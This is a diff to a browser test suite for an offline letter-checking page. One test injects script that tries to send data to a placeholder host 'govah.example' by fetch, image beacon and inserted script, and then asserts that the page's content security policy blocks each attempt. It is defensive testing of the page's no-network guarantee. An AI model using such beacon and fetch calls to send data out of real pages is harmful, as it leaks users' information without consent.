@@ -38,6 +38,7 @@ from tests.browser.offline import (
 )
 from tests.browser.pages import AXE_SCRIPT, FIND_BARRIERS, MILLISECONDS, RULES
 from tests.e2e.system import System
+from tests.waiting import wait_until
 
 # `make browser` compares thousands of names and tokens.
 COMPARED = 4000 if IS_FULL else 120
@@ -49,6 +50,13 @@ TRUST = replace(offline.TRUST, public_urls=[*offline.TRUST.public_urls, ADDRESS]
 LETTERS = "یىيئؤءاآأإوهةتلسمهرکكگپچژ\u0654\u0651\u064b\u200c ۱١1ﻻﷲABßΣςİ-"
 WITHOUT_ED25519 = """SubtleCrypto.prototype.importKey = async () => {
   throw new DOMException("", "NotSupportedError");
+}"""
+ATTEMPTS = """() => {
+  self.refused = [];
+  addEventListener("securitypolicyviolation", event => refused.push(event.effectiveDirective));
+  fetch("https://govah.example/").catch(() => {});
+  new Image().src = "https://govah.example/serial";
+  document.body.append(Object.assign(document.createElement("script"), {textContent: "0"}));
 }"""
 PLACES = {
     "version": 0,
@@ -86,6 +94,7 @@ def saved(browser: Browser, file: Path) -> Iterator[SavedPage]:
 def test_a_genuine_letter_is_described(saved: SavedPage) -> None:
     saved.check_text(write_qr())
     saved.expect_verdict("genuine")
+    expect(saved.page.locator("#trial")).to_be_hidden()
     facts = dict(
         zip(
             saved.page.locator("dt").all_inner_texts(),
@@ -299,21 +308,9 @@ def test_months_begin_as_in_the_package(saved: SavedPage) -> None:
 
 
 def test_the_page_refuses_to_send_anything(saved: SavedPage) -> None:
-    refused = saved.page.evaluate(
-        """async () => {
-          const refused = [];
-          addEventListener("securitypolicyviolation", event => refused.push(event.effectiveDirective));
-          await fetch("https://govah.example/").catch(() => {});
-          navigator.sendBeacon("https://govah.example/", "serial");
-          new Image().src = "https://govah.example/serial";
-          const script = document.createElement("script");
-          script.textContent = "0";
-          document.body.append(script);
-          await new Promise(done => setTimeout(done, 50));
-          return refused;
-        }"""
-    )
-    assert set(refused) == {"connect-src", "img-src", "script-src-elem"}
+    page, expected = saved.page, {"connect-src", "img-src", "script-src-elem"}
+    page.evaluate(ATTEMPTS)
+    wait_until(lambda: set(page.evaluate("refused")) == expected, lambda: str(page.evaluate("refused")))
     saved.complaints.clear()
     saved.requests[1:] = []
 
@@ -377,6 +374,7 @@ def test_the_served_page_works_without_a_network(browser: Browser, system: Syste
         context.set_default_timeout(MILLISECONDS)
         saved = open_page(context, "/check", "fa")
         expect(saved.page.locator("#works-offline")).to_have_text(saved.words["worksOffline"])
+        expect(saved.page.get_by_text(saved.words["trial"])).to_be_visible()
         assert context.cookies() == []
         with saved.page.expect_download() as download:
             saved.page.get_by_role("link", name=saved.words["save"]).click()
